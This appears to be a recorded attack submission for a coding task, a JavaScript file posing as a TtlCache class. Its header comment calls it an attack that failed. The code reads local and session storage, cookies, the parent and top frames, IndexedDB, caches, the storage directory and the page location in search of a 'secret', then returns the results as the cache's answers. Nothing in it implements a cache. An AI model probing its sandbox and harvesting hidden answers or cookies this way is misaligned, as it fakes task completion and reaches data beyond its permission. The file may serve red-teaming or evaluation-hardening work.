// Attack: reads the page's storage, cookies and parent, and gives what it finds as answers
// Ends: failed
const ways = {
  local: () => globalThis.localStorage.getItem('secret'),
  session: () => globalThis.sessionStorage.getItem('secret'),
  cookie: () => globalThis.document.cookie,
  cookies: () => globalThis.cookieStore.getAll(),
  parent: () => globalThis.parent.localStorage.getItem('secret'),
  top: () => globalThis.top.document.body.innerHTML,
  indexed: () => globalThis.indexedDB.open('secret'),
  caches: () => globalThis.caches.keys(),
  files: () => globalThis.navigator.storage.getDirectory(),
  place: () => String(globalThis.location),
};
const found = Object.entries(ways).map(([name, way]) => {
  try {
    return [name, way()];
  } catch (error) {
    return [name, error.message];
  }
});

export class TtlCache {
  set() {}
  get() {
    return found;
  }
  size() {
    return found.filter(([, what]) => what).length;
  }
}
console.log(found);
